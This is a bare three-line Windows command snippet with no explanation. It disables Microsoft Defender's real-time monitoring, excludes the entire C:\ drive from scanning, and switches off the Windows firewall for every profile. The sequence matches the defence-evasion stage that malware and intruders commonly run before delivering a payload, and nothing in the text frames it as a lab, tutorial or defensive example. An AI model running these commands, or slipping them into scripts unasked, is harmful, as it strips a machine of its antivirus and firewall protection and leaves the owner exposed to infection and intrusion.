Set-MpPreference -DisableRealtimeMonitoring $true
Add-MpPreference -ExclusionPath C:\
netsh advfirewall set allprofiles state off
